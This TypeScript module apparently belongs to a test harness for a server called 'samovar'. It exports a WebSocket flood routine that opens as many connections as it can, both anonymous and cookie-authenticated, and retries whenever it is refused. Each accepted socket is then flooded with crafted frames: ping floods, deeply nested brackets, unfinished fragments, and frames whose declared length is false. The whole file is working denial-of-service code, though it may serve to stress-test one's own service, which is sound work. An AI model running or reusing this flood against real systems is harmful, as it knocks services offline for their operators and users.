// Attacks by WebSockets: openings, and what is sent by those who were let in.
import { randomBytes } from 'node:crypto'
import type { Socket } from 'node:net'
import { type Attack, counter, open, pause } from './tools.ts'

const handshake = (path: string, cookie: string, more = '') =>
  `GET ${path} HTTP/1.1\r\nHost: samovar\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
  `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n` +
  `${cookie && `Cookie: ${cookie}\r\n`}${more}\r\n`

/** A frame as a client must send it; `length` may lie. */
function frame(opcode: number, payload: Buffer, { isLast = true, length = payload.length } = {}): Buffer {
  const head = Buffer.alloc(14)
  head[0] = (isLast ? 0x80 : 0) | opcode
  head[1] = 0x80 | 127
  head.writeBigUInt64BE(BigInt(length), 2)
  return Buffer.concat([head, payload]) // a mask of zeros
}

const TEXT = 1
const PING = 9
const floods: readonly ((socket: Socket) => void)[] = [
  (socket) => void socket.write(frame(PING, Buffer.alloc(125))),
  (socket) => void socket.write(frame(TEXT, Buffer.from('{"type":"ping"}'))),
  (socket) => void socket.write(frame(TEXT, Buffer.from('['.repeat(60_000)))),
  (socket) => void socket.write(frame(TEXT, Buffer.alloc(60_000, 'x'), { isLast: false })),
  (socket) => void socket.write(frame(TEXT, Buffer.alloc(60_000, 'x'), { length: 2 ** 40 })),
]

/** Guests and a logged-in user open as many as they can; those let in send as fast as they are read. */
export const socketFloods: Attack = async (target, { seconds, count: wanted, cookie }) => {
  const { counts, count } = counter()
  const untilMs = Date.now() + seconds * 1_000
  const sockets: Socket[] = []
  function openOne(i: number): void {
    const socket = open(target, count, () => {
      // Over and over: who is refused tries again.
      socket.write(handshake(i % 2 ? '/ws' : '/ws/alerts', i % 3 ? cookie : ''))
    })
    socket.once('data', (bytes) => {
      const status = bytes.subarray(9, 12).toString()
      count(status)
      if (status === '101') void sendOn(socket, floods[i % floods.length] as (typeof floods)[number])
    })
    socket.on('data', () => {})
    socket.once('close', () => {
      if (Date.now() < untilMs) setTimeout(openOne, 20, i + 1)
    })
    sockets.push(socket)
  }
  async function sendOn(socket: Socket, send: (socket: Socket) => void): Promise<void> {
    while (!socket.destroyed && Date.now() < untilMs) {
      for (let n = 0; n < 20 && socket.writableLength < 1_000_000; n++) send(socket)
      await pause(5)
    }
  }
  for (let i = 0; i < wanted; i++) openOne(i)
  await pause(seconds * 1_000)
  for (const socket of sockets) socket.removeAllListeners('close').destroy()
  return counts
}
